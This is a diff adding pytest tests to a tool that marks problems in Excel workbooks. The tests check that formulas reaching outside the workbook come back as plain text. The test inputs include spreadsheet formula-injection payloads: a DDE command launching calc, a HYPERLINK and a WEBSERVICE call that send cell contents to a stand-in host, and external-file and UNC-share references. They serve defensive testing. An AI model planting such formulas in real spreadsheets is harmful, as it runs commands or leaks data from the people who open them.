@@ -85,3 +85,34 @@ def test_refused_and_other_files_get_the_list_alone(tmp_path: Path, name: str, c
 def test_a_file_without_problems_is_given_back_with_an_empty_list(book: Path) -> None:
     made = marked(book)
     assert pd.DataFrame(made[LIST_SHEET].values).shape[0] == 1
+
+
+@pytest.mark.parametrize("formula", [
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/"&A2,"xem")', "=WEBSERVICE(A2)", "='[khác.xlsx]A'!B2",
+    '=hyperlink ("\\\\may\\chia")',
+])  # fmt: skip
+def test_a_formula_that_reaches_outside_comes_back_as_text(book: Path, formula: str) -> None:
+    made = openpyxl.load_workbook(book)
+    made["A"]["C2"] = formula
+    made.save(book)
+    cell = marked(book, problem())["A"]["C2"]
+    assert (cell.data_type, cell.value) == ("s", formula)
+
+
+def test_a_sum_stays_a_formula(book: Path) -> None:
+    assert marked(book, problem())["A"]["A3"].data_type == "f"
+
+
+def test_a_file_stored_under_another_name_is_known_by_the_name_it_came_with(book: Path) -> None:
+    out = marked_workbook(
+        book, problems_frame((problem(file="cán bộ.xlsx"),)), book.with_name("out.xlsx"), name="cán bộ.xlsx",
+        language="en",
+    )  # fmt: skip
+    comment = openpyxl.load_workbook(out)["A"]["B2"].comment
+    assert comment is not None
+    assert comment.text == "No such day. Is it 28/2/1985?"
+
+
+def test_a_workbook_over_the_limit_comes_back_as_a_list(book: Path) -> None:
+    out = marked_workbook(book, problems_frame((problem(),)), book.with_name("out.xlsx"), most_bytes=10)
+    assert openpyxl.load_workbook(out).sheetnames == [LIST_SHEET]
